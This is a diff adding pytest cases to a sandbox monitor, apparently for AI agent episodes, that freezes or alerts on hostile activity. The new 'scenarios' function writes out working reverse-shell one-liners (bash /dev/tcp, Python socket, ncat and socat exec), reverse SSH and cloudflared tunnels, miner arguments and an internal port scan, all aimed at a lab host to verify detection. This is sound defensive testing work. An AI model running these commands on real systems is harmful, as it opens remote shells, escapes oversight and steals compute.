@@ -4,7 +4,9 @@ network namespace of our own). Attacks are frozen; benign work raises nothing.""
 
 from __future__ import annotations
 
+import os
 import shutil
+import subprocess
 import sys
 import time
 import uuid
@@ -13,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from agentprobe.cgroups import remove_cgroup_tree
-from agentprobe.lab import Internet
+from agentprobe.lab import INTERNAL_ADDR, Internet
 from agentprobe.stream import StreamError, read_records
 
 pytestmark = pytest.mark.kernel
@@ -238,3 +240,80 @@ def test_benign_agent_work_raises_nothing(agents, episode, tmp_path):
     assert [x["argv"][0] for x in recs if x["type"] == "exec" and x["argv"]][:1] == ["/bin/bash"]
     assert alerts(recs) == [] and not frozen(episode)
     assert any(x["type"] == "connect" and x.get("port") == 18080 for x in recs)
+
+
+# ---------------------------------------------------------------- every other default rule, by a real process
+GPU_LOOP = r"""
+import fcntl, os, struct, sys
+def iowr(nr, size):
+    return (3 << 30) | (size << 16) | (ord("F") << 8) | nr
+fd = os.open(sys.argv[1], os.O_PATH)
+alloc = bytearray(struct.pack("<IIII", 1, 2, 3, 0x41)) + bytearray(48)   # RM_ALLOC root client: a CUDA context
+for _ in range(int(sys.argv[2])):
+    try:
+        fcntl.ioctl(fd, iowr(0x2B, len(alloc)), alloc)
+    except OSError:
+        pass
+"""
+
+
+@pytest.fixture
+def gpu_node(tmp_path):
+    node = tmp_path / "nvidiactl"
+    os.mknod(node, 0o600 | 0o020000, os.makedev(195, 255))
+    return node
+
+
+def scenarios(net, tmp: Path, gpu: Path) -> dict[str, tuple[str, str]]:
+    """rule id -> (shell command, 'freeze' or 'alert'): real tools doing the thing."""
+    key = net.dir / "user_key"
+    ssh_opts = f"-i {key} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
+    h = net.addr
+    for name, src in (("xmrig", "/bin/sleep"), ("cloudflared", "/bin/sleep"), ("render", sys.executable)):
+        shutil.copy(src, tmp / name)
+    (tmp / "gpu.py").write_text(GPU_LOOP)
+    return {
+        "tunnel_tool_started": (f"autossh -M 0 -N {ssh_opts} -R 9100:127.0.0.1:22 root@{h}", "freeze"),
+        "cloudflared_tunnel": (f"{tmp}/cloudflared tunnel run 30", "freeze"),
+        "netcat_exec": (f"ncat {h} 4455 -e /bin/sh", "freeze"),
+        "netcat_listener": ("ncat -l 127.0.0.1 5599 & sleep 1; kill $!", "alert"),
+        "socat_relay": (f"socat TCP:{h}:4455 EXEC:/bin/sh", "freeze"),
+        "shell_network_redirection": (f"bash -c 'bash -i >& /dev/tcp/{h}/4455 0>&1'", "freeze"),
+        "interpreter_reverse_shell": (
+            f"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{h}\",4455));"
+            f"os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", "freeze"),
+        "miner_binary_started": (f"{tmp}/xmrig 30", "freeze"),
+        "miner_arguments": ("/bin/true -o stratum+tcp://pool.example:3333 -u wallet.rig --donate-level 1", "freeze"),
+        "gpu_use_not_allowed": (f"{tmp}/render {tmp}/gpu.py {gpu} 3", "alert"),
+        "cuda_context_from_temp_dir": (f"{tmp}/render {tmp}/gpu.py {gpu} 3", "alert"),
+        "gpu_sustained_use_not_allowed": (f"{tmp}/render {tmp}/gpu.py {gpu} 12000; sleep 3", "alert"),
+        "internal_network_probing": (
+            "python3 -c 'import socket\nfor p in range(1, 25):\n s=socket.socket(); s.settimeout(0.5)\n"
+            f" s.connect_ex((\"{INTERNAL_ADDR}\", p)); s.close()'", "alert"),
+    }
+
+
+RULES_BY_REAL_PROCESS = ["tunnel_tool_started", "cloudflared_tunnel", "netcat_exec", "netcat_listener", "socat_relay",
+                         "shell_network_redirection", "interpreter_reverse_shell", "miner_binary_started",
+                         "miner_arguments", "gpu_use_not_allowed", "cuda_context_from_temp_dir",
+                         "gpu_sustained_use_not_allowed", "internal_network_probing"]
+
+
+@pytest.mark.parametrize("rule", RULES_BY_REAL_PROCESS)
+def test_default_rule_fires_on_a_real_process(rule, agents, episode, net, tmp_path, gpu_node):
+    _, out, _ = agents
+    cmd, action = scenarios(net, tmp_path, gpu_node)[rule]
+    p = episode.popen(["/bin/bash", "-c", cmd], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                      start_new_session=True)
+    try:
+        recs = wait_records(out, episode, lambda rs: rule in alerts(rs), timeout=15)
+        assert rule in alerts(recs)
+        alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == rule)
+        assert alert["action"] == action and alert["mitre"] and alert["evidence"]
+        if action == "freeze":
+            assert wait_frozen(episode)
+    finally:
+        try:
+            os.killpg(p.pid, 9)
+        except ProcessLookupError:
+            pass
